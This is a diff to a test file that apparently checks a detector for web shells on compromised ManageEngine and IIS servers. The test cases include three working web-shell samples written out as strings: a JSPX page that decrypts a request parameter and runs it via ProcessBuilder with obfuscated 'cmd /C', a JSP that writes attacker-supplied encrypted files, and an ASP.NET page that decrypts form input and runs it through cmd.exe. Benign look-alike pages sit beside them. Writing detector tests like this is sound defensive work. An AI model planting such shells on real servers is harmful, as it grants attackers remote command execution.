@@ -1,8 +1,10 @@
-import { describe, expect, test } from 'vitest'
+import { beforeAll, describe, expect, test } from 'vitest'
 import { accessEvents, ordinaryVisits, type Visit } from '../../../test/access-lines.ts'
+import { testGrammars } from '../../../test/grammars.ts'
 import { eventOf, processStart, severityFor } from '../../../test/record-detector.ts'
 import { foundBy } from '../../../test/set-detector.ts'
-import type { SecurityEvent, SetDetector } from '../../model/index.ts'
+import type { EvidenceId, SecurityEvent, SetDetector, SyntaxParsers } from '../../model/index.ts'
+import { content } from './content.ts'
 import { exploitThenPage } from './exploit-then-page.ts'
 import { lonePage } from './lone-page.ts'
 import { scriptWritten } from './script-written.ts'
@@ -93,6 +95,76 @@ describe('a dropper that is not there afterwards', () => {
 const wrote = (image: string, path: string) => eventOf<'file_activity'>({ kind: 'file_activity', action: 'create', image, path })
 const JAVA = 'C:\\ManageEngine\\ADSelfService Plus\\jre\\bin\\java.exe'
 const WEBAPP = 'C:\\ManageEngine\\ADSelfService Plus\\webapps\\adssp\\html\\promotion\\selfsdp.jspx'
+
+let parsers: SyntaxParsers
+beforeAll(async () => {
+  parsers = await testGrammars()
+})
+const severityOfPage = (path: string, text: string) => {
+  const bytes = new TextEncoder().encode(text)
+  const file = {
+    evidence: 'test' as EvidenceId,
+    path,
+    host: 'web01',
+    size: bytes.length,
+    encoding: 'utf-8',
+    bytes,
+    text,
+  } as const
+  const match = content.wants(file) ? content.judge(file, parsers) : undefined
+  return match ? (match.severity ?? content.severity) : ''
+}
+const jspx = (code: string) =>
+  `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:directive.page import="javax.crypto.*,javax.crypto.spec.*"/><jsp:scriptlet><![CDATA[\n${code}\n]]></jsp:scriptlet></jsp:root>`
+const CIPHER =
+  'Cipher c = Cipher.getInstance("AES/CBC/PKCS5Padding"); c.init(2, new SecretKeySpec(key, "AES"), new IvParameterSpec(key));'
+
+describe('what stands in the page', () => {
+  test.each([
+    [
+      'command words made of bytes, run by ProcessBuilder',
+      'html/promotion/selfsdp.jspx',
+      jspx(
+        `byte[] key = new byte[16];\n${CIPHER}\nString a = new String(c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("p"))));\nString w = new String(new byte[]{99, 109, 100});\nProcess r = new ProcessBuilder(w, new String(new byte[]{47, 67}), a).start();`,
+      ),
+      'critical',
+    ],
+    [
+      'encrypted path and content written',
+      'html/error.jsp',
+      `<%@ page import="java.io.*,javax.crypto.*,javax.crypto.spec.*" %><% byte[] key = new byte[16];\n${CIPHER}\nString p = new String(c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("path"))));\nbyte[] d = c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("content")));\nnew FileOutputStream(p).write(d);\nout.print("upload error"); %>`,
+      // a sign beside others: what every site has somewhere takes files, too
+      'low',
+    ],
+    [
+      'a command shell of ASP.NET that decrypts what it is told',
+      'iisstart.aspx',
+      '<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">void Page_Load(object s, EventArgs e) { var a = System.Security.Cryptography.Aes.Create(); var d = a.CreateDecryptor(); byte[] b = Convert.FromBase64String(Request.Form["t"]); string c = System.Text.Encoding.UTF8.GetString(d.TransformFinalBlock(b, 0, b.Length)); var p = new ProcessStartInfo("cmd.exe", "/c " + c); p.RedirectStandardOutput = true; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }</script>',
+      'critical',
+    ],
+    // look-alikes
+    [
+      'a page that decrypts a cookie and shows it',
+      'html/profile.jsp',
+      `<%@ page import="javax.crypto.*,javax.crypto.spec.*" %><% byte[] key = new byte[16];\n${CIPHER}\nout.print(new String(c.doFinal(java.util.Base64.getDecoder().decode(request.getParameter("name"))))); %>`,
+      '',
+    ],
+    [
+      'a picture kept as bytes',
+      'html/dot.jsp',
+      '<% byte[] gif = new byte[]{71, 73, 70, 56, 57, 97}; response.getOutputStream().write(gif); %>',
+      '',
+    ],
+    [
+      'a page that starts a fixed program',
+      'status.aspx',
+      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.ProcessStartInfo("C:\\\\tools\\\\version.exe"); System.Diagnostics.Process.Start(p); Response.Write(Request.QueryString["day"].Length); }</script>',
+      '',
+    ],
+  ])('%s', (_name, path, text, severity) => {
+    expect(severityOfPage(path, text)).toBe(severity)
+  })
+})
 
 describe('how the page came there', () => {
   test.each([
